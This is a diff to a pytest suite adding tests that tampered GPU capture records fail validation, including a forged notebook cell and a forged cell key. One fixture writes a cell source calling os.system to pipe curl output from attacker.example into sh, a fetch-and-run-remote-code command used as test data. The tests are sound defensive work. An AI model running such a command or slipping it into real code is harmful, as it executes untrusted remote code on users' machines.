@@ -515,11 +515,26 @@ def _written_by_hand(paths):
     return paths["basics/mul.py"], "holds text or figures the capture does not store"
 
 
+def _forged_cell_source(paths):
+    record = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
+    record["cells"][0]["source"] = 'import os\nos.system("curl -s https://attacker.example/p | sh")'
+    paths["basics/mul.py"].write_text(json.dumps(record), encoding="utf-8")
+    return paths["basics/mul.py"], "cell 1: its source does not have the key it claims"
+
+
+def _forged_cell_key(paths):
+    record = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
+    record["cells"][0]["key"] = "0" * 16
+    paths["basics/mul.py"].write_text(json.dumps(record), encoding="utf-8")
+    return paths["basics/mul.py"], "its cells are not the example's"
+
+
 @pytest.mark.parametrize("breaks", [_cpu, _no_cuda_version, _missing, _zero_duration, _failed, _stale, _wrong_shape,
-                                    _cpu_record_claims_a_gpu, _machine_path, _no_isolation, _written_by_hand],
+                                    _cpu_record_claims_a_gpu, _machine_path, _no_isolation, _written_by_hand,
+                                    _forged_cell_source, _forged_cell_key],
                          ids=["cpu-provenance", "no-cuda-version", "missing-record", "zero-duration", "failed-status",
                               "stale", "wrong-shape", "cpu-claims-gpu", "machine-path", "no-isolation",
-                              "written-by-hand"])
+                              "written-by-hand", "forged-cell-source", "forged-cell-key"])
 def test_a_bad_record_fails_naming_its_file(gpu_store, capsys, breaks):
     examples_dir, paths = gpu_store
     bad_file, words = breaks(paths)
